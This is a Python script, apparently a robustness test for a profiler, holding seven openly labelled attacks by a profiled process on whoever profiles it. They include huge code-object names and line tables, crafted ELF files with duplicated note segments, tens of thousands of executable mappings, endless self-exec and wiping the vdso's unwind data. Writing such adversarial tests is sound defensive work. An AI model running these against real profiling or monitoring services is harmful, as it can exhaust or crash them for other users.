"""A program of an ordinary user that would stop or fill up who profiles it: hostile.py ATTACK [FOLDER].

names     a stack of 900 functions whose file names are 4 KB each and differ in their first letter only
tables    a stack of 300 functions with line tables of 1 MB each
notes     60 ELF files whose 1,023 segments are all the same 64 KiB of notes
files     300 ELF files, one mapped each 5 ms
mappings  60,000 mappings of code, and one more every 2 ms
exec      executes itself without end, with 60 KB of arguments
vdso      has no call frames in its vdso any more, which is that of all programs for whoever reads its build id
"""

import ctypes
import mmap
import os
import struct
import sys
import time
import types

PAGE = 4096
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
FAILED = ctypes.c_void_p(-1).value


def call_next(chain, place):
    if place + 1 < len(chain):
        return chain[place + 1](chain, place + 1)
    while True:
        time.sleep(0.002)


def call_all(replacements):
    """Calls a function for each code object made with these replacements, each by the one before."""
    code = call_next.__code__
    chain = []
    for place, values in enumerate(replacements):
        named = {"co_qualname": f"f{place}"} if hasattr(code, "co_qualname") else {}
        chain.append(types.FunctionType(code.replace(co_name=f"f{place}", **named, **values), globals()))
    sys.setrecursionlimit(len(chain) + 1000)
    print("ready", os.getpid(), flush=True)
    chain[0](chain, 0)


def names():
    call_all({"co_filename": chr(0x4E00 + place) + "/x" * 2045} for place in range(900))


def tables():
    call_all([{"co_linetable": b"\xff" * (1023 << 10)}] * 300)


def map_code(fd, size, flags):
    address = LIBC.mmap(None, size, mmap.PROT_READ | mmap.PROT_EXEC, flags, fd, 0)
    return None if address == FAILED else address


def elf_head(segments):
    return (
        b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, segments, 64, 0, 0)
    )


def files(folder):
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, PAGE, PAGE, PAGE)
    print("ready", os.getpid(), flush=True)
    for number in range(300):
        path = os.path.join(folder, f"file{number}")
        with open(path, "wb") as file:
            file.write((elf_head(1) + load).ljust(PAGE, b"\0"))
        fd = os.open(path, os.O_RDONLY)
        assert map_code(fd, PAGE, mmap.MAP_PRIVATE)
        os.close(fd)
        time.sleep(0.005)
    call_next((), 0)


def notes(folder):
    head = elf_head(1024)
    load = struct.pack("<IIQQQQQQ", 1, 5, 0, 0, 0, 1 << 17, 1 << 17, PAGE)
    note = struct.pack("<IIQQQQQQ", 4, 4, 1 << 16, 1 << 16, 0, 1 << 16, 1 << 16, 4)
    for number in range(60):
        path = os.path.join(folder, f"notes{number}")
        with open(path, "wb") as file:
            file.write((head + load + note * 1023).ljust(1 << 17, b"\0"))
        fd = os.open(path, os.O_RDONLY)
        assert map_code(fd, 1 << 17, mmap.MAP_PRIVATE)
    print("ready", os.getpid(), flush=True)
    call_next((), 0)


def mappings(folder):
    path = os.path.join(folder, "code")
    with open(path, "wb") as file:
        file.write(bytes(PAGE))
    fd = os.open(path, os.O_RDONLY)
    count = 0
    while count < 60_000 and map_code(fd, PAGE, mmap.MAP_PRIVATE):  # of the same page: the kernel does not join them
        count += 1
    print("ready", os.getpid(), flush=True)
    while True:
        time.sleep(0.002)
        address = map_code(fd, PAGE, mmap.MAP_PRIVATE)
        if address:
            LIBC.munmap(ctypes.c_void_p(address), ctypes.c_size_t(PAGE))


def execute(*arguments):
    if not arguments:
        print("ready", os.getpid(), flush=True)
    command = 'exec sh -c "$0" "$0" "$@"'
    os.execvp("sh", ["sh", "-c", command, command, *["argument" * 1000] * 8])


def vdso():
    with open("/proc/self/maps") as maps:
        at, end = next([int(word, 16) for word in it.split()[0].split("-")] for it in maps if it.endswith("[vdso]\n"))
    image = ctypes.string_at(at, end - at)
    (headers,), (count, names) = struct.unpack_from("<Q", image, 40), struct.unpack_from("<HH", image, 60)
    sections = [struct.unpack_from("<IIQQQQ", image, headers + 64 * place) for place in range(count)]
    (place, size) = next(it[4:] for it in sections if image[sections[names][4] + it[0] :].startswith(b".eh_frame\0"))
    assert not LIBC.mprotect(ctypes.c_void_p(at), ctypes.c_size_t(end - at), 7)
    ctypes.memset(at + place, 0, size)
    print("ready", os.getpid(), flush=True)
    while True:
        time.monotonic()


ATTACKS = {
    **{"names": names, "tables": tables, "notes": notes, "files": files, "mappings": mappings, "exec": execute},
    "vdso": vdso,
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
